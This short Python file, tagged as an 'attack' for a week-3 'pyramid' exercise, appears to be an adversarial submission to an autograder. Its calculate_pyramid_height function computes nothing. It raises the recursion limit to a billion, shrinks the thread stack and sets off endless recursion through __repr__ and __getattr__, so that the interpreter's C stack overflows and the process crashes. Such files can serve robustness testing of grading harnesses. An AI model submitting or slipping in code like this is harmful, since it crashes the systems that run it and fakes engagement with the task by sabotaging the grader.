"""Recurses until the C stack is gone, with every guard taken away."""
# attack: week=03 exercise=pyramid
import sys
import threading

sys.setrecursionlimit(10**9)
threading.stack_size(1 << 20)


class Endless:
    def __getattr__(self, name):
        return getattr(self, name + "x"[:0])

    def __repr__(self):
        return repr([self])


def calculate_pyramid_height(number_of_blocks):
    thread = threading.Thread(target=lambda: repr(Endless()))
    thread.start()
    thread.join()
    return getattr(Endless(), "x")
